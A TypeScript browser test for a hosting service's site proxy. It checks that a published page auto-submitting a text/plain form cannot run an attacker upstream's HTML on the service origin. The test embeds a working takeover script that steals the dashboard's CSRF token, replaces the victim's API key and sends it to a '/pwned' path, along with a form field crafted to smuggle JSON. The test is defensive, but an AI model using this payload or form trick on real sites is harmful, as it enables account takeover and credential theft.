// The site proxy attacked from a browser (issue 19, item 0): a published site's page auto-submits an
// `enctype=text/plain` form to POST /api/v1/proxy/:slug; the attacker's HTTPS upstream answers HTML whose
// script, were it to run on the BASE_URL origin, would read the dashboard's CSRF token and replace the
// signed-in visitor's API key. Nothing of it may run there. The same page's fetch() keeps working.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { lastCodeFor, signIn, startTestApp, type TestApp } from '../helpers/app.js';
import { type BrowserHarness, startBrowser } from '../helpers/browser.js';
import { type DnsPeer, startDnsPeer } from '../helpers/dns.js';
import { assertPublished, publish, update } from '../helpers/publish.js';
import { startUpstream, type Upstream } from '../helpers/upstream.js';

const UPSTREAM_HOST = 'evil-api.upstream.test';

/** The attacker's payload: what it would do with the service's origin if its script ran there. */
const TAKEOVER = `<!doctype html><title>owned</title><script>
(async () => {
  const page = await (await fetch('/dashboard')).text();
  const token = (/name="_csrf" value="([^"]+)"/.exec(page) || [])[1] || '';
  const res = await fetch('/dashboard/api-key', {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: '_csrf=' + encodeURIComponent(token),
  });
  const key = /svc_live_[0-9a-f]{32}/.exec(await res.text());
  await fetch('/pwned?origin=' + encodeURIComponent(location.origin) + '&key=' + (key ? key[0] : 'none'));
})();
</script>`;

let t: TestApp;
let dns: DnsPeer;
let upstream: Upstream;
let browser: BrowserHarness;

before(async () => {
  dns = await startDnsPeer({ [UPSTREAM_HOST]: { A: ['127.0.0.1'] } });
  upstream = await startUpstream([UPSTREAM_HOST], (req, res) => {
    if (req.url === '/data') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ hello: 'from the upstream', sent: req.body }));
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(TAKEOVER);
  });
  t = await startTestApp(
    { PROXY_ENABLED: 'true', PROXY_ALLOW_PRIVATE_ADDRESSES: 'true', DNS_SERVERS: dns.server },
    { proxyCa: upstream.ca },
  );
  browser = await startBrowser();
});

after(async () => {
  await browser?.close();
  await t?.close();
  await upstream?.close();
  await dns?.close();
});

test('a site page posting a text/plain form to the proxy cannot run the upstream’s HTML on the service origin', async () => {
  // The attacker: a site whose page submits itself to the proxy, the upstream allowlisted.
  const attacker = await signIn(t, 'attacker@example.com');
  const proxyUrl = (slug: string) => `${t.ctx.config.baseUrl}/api/v1/proxy/${slug}`;
  const target = `https://${UPSTREAM_HOST}:${upstream.port}`;
  const slug = assertPublished(
    await publish(t, { 'index.html': '<p>placeholder</p>' }, { key: attacker }),
  ).slug;
  const formName = JSON.stringify({ url: `${target}/page`, x: '' }).slice(0, -2);
  const files = {
    'index.html': `<!doctype html><title>free stuff</title>
<form method="post" enctype="text/plain" action="${proxyUrl(slug)}"><input type="hidden" name='${formName}' value='"}'></form>
<script>document.forms[0].submit()</script>`,
    'app.html': `<!doctype html><title>app</title><p id="out">waiting</p><script>
fetch(${JSON.stringify(proxyUrl(slug))}, { method: 'POST', body: JSON.stringify({ url: ${JSON.stringify(`${target}/data`)}, method: 'POST', body: 'ping' }) })
  .then(async (r) => { document.getElementById('out').textContent = r.status + ' ' + (await r.text()); })
  .catch((e) => { document.getElementById('out').textContent = 'failed ' + e; });
</script>`,
  };
  const updated = await update(t, attacker, slug, files);
  assert.equal(updated.finalize?.status, 200, JSON.stringify(updated.finalize?.body));
  const hosts = await t.api(`/api/v1/publish/${slug}/proxy-hosts`, {
    method: 'PUT',
    key: attacker,
    body: { hosts: [UPSTREAM_HOST] },
  });
  assert.equal(hosts.status, 200, hosts.text);

  // The victim: an account with an API key, signed in to the dashboard in this browser.
  const email = 'victim@example.com';
  const victimKey = await signIn(t, email);
  const p = await browser.page(t);
  const seen: string[] = [];
  p.page.on('request', (r) => seen.push(`${r.method()} ${r.url()}`));
  try {
    await p.page.goto(`${p.baseUrl}/login`);
    await p.page.fill('#email', email);
    await p.page.click('button[type=submit]');
    await p.page.waitForSelector('#code');
    await p.page.fill('#code', lastCodeFor(t, email));
    await p.page.click('button[type=submit]');
    await p.page.waitForURL(/\/dashboard/);

    // The victim opens the attacker's site: the form posts itself to the proxy.
    upstream.requests.length = 0;
    const proxied = p.page.waitForResponse((r) => r.url().includes('/api/v1/proxy/'));
    await p.page.goto(p.siteUrl(slug));
    const answer = await proxied;
    // Time for the payload's three requests, had its script run.
    await new Promise((r) => setTimeout(r, 1000));

    const afterVisit = seen.slice(seen.findIndex((l) => l.includes(`${slug}.localhost`)));
    const ranOnService = afterVisit.filter((line) => /\/dashboard|\/pwned/.test(line));
    assert.deepEqual(ranOnService, [], 'the upstream’s script ran on the service origin');
    assert.equal(answer.status(), 403, 'a form submission to the proxy is refused');
    assert.equal(upstream.requests.length, 0, 'the form submission was forwarded to the upstream');
    assert.equal(
      (await t.api('/api/v1/account', { key: victimKey })).status,
      200,
      'the victim’s API key was replaced',
    );
    await p.screenshot('proxy-form-refused');

    // The site's own fetch() through the proxy (a text/plain JSON body, no preflight) still works.
    await p.page.goto(`${p.siteUrl(slug)}/app.html`);
    await p.page.waitForFunction("document.getElementById('out').textContent !== 'waiting'");
    const out = await p.page.textContent('#out');
    assert.equal(out, `200 ${JSON.stringify({ hello: 'from the upstream', sent: 'ping' })}`);
    assert.deepEqual(p.foreignRequests, []);
  } finally {
    await p.close();
  }
});
